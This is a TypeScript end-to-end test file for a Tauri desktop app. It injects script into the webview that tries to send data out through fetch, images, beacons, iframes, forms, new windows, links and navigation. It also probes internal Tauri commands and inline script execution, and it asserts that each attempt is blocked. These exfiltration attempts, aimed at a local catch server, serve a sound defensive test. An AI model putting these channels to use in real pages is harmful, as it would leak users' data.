// The webview is treated as hostile: what a script in it, say of a compromised package, could try to get out.

import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { App } from '../support/app.ts'
import { journey } from '../support/journey.ts'
import { pause } from '../support/processes.ts'
import { Screens } from '../support/screens.ts'

const story = journey()
let app: App
let outside: Server
let address: string
const received: string[] = []

beforeAll(async () => {
  outside = createServer((request, response) => {
    received.push(request.url ?? '')
    response.setHeader('Access-Control-Allow-Origin', '*').end('caught')
  })
  await new Promise<void>((listening) => outside.listen(0, '127.0.0.1', listening))
  address = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
})

afterAll(() => outside.close())

test('no address, image, request, frame or window carries anything out', async () => {
  app = await story.app()
  await new Screens(app, story.desktop).welcome('Alice Example', 'alice@example.com')
  const before = await app.driver.getCurrentUrl()
  await app.driver.executeScript(
    `const out = arguments[0]
     fetch(out + '/fetch').catch(() => {})
     new Image().src = out + '/image'
     navigator.sendBeacon(out + '/beacon', 'x')
     const frame = document.createElement('iframe'); frame.src = out + '/frame'; document.body.append(frame)
     const form = document.createElement('form'); form.action = out + '/form'; document.body.append(form); form.submit()
     window.open(out + '/window')
     const link = document.createElement('a'); link.href = out + '/blank'; link.target = '_blank'; document.body.append(link); link.click()
     setTimeout(() => { location.href = out + '/address' }, 0)`,
    address,
  )
  await pause(2_000)
  expect((await app.takeComplaints()).length, 'the policy says no to each').toBeGreaterThanOrEqual(5)
  expect(received, 'a pasted document could be read by such a script').toEqual([])
  expect(await app.driver.getCurrentUrl(), 'the window stays in the app').toBe(before)
  expect(await story.desktop.windows('Drawbridge'), 'no second window').toHaveLength(1)
})

test('nothing of Tauri itself answers, only the commands of the app', async () => {
  const answers = await app.driver.executeAsyncScript<Record<string, string>>(
    `const done = arguments[arguments.length - 1]
     const ask = (command, payload) => window.__TAURI_INTERNALS__.invoke(command, payload)
       .then(() => 'answered', (error) => 'refused: ' + JSON.stringify(error))
     Promise.all([
       ask('plugin:window|set_title', { label: 'main', value: 'x' }),
       ask('plugin:dialog|save', { options: {} }),
       ask('plugin:event|listen', { event: 'x', target: { kind: 'Any' }, handler: 1 }),
       ask('get_session', {}),
     ]).then(([title, dialog, listen, session]) => done({ title, dialog, listen, session }))`,
  )
  expect(answers.session).toBe('answered')
  for (const command of ['title', 'dialog', 'listen'] as const)
    expect(answers[command]).toMatch(/^refused: .*not allowed/)
})

test('text is never run as a program', async () => {
  const run = await app.driver.executeAsyncScript<string>(
    `const done = arguments[arguments.length - 1]
     window.ran = ''
     const inline = document.createElement('script'); inline.textContent = 'window.ran += "inline "'; document.body.append(inline)
     const timer = setTimeout; try { timer('window.ran += "timer "', 0) } catch {}
     timer(() => done(window.ran), 200)`,
  )
  expect(await app.takeComplaints()).toHaveLength(2)
  expect(run).toBe('')
})
